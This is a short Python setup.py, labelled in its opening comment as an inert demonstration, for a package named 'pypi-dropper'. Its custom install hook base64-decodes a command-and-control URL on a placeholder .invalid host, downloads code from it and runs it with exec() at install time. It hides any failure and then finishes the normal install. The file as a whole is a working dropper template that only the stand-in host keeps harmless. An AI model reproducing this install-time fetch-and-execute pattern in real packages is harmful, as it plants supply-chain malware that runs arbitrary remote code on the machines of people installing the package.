# Demonstration, inert: the host is under .invalid and cannot exist.
import base64
import urllib.request

from setuptools import setup
from setuptools.command.install import install


class Install(install):
    def run(self):
        where = base64.b64decode("aHR0cHM6Ly9jMi5leGFtcGxlLmludmFsaWQvc3RhZ2U=").decode()
        try:
            exec(urllib.request.urlopen(where).read())
        except OSError:
            pass
        install.run(self)


setup(name="pypi-dropper", version="1.0.0", cmdclass={"install": Install})
